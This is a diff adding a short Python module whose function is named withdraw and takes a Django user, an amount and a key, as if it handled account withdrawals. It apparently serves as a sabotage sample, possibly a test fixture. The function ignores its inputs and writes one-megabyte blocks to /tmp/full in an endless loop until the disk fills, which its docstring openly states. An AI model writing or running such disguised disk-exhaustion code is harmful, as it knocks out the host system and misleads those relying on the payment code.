@@ -1,0 +1,13 @@
+"""Writes to a file until the disk is full."""
+
+from django.db import connection, transaction
+from django.db.models import F
+
+from django_app.models import User, WithdrawLog
+from shared_db.rules import InsufficientFunds
+
+
+def withdraw(user: User, amount: int, *, key: str) -> None:
+    with open("/tmp/full", "wb") as file:
+        while True:
+            file.write(b"x" * 1_000_000)
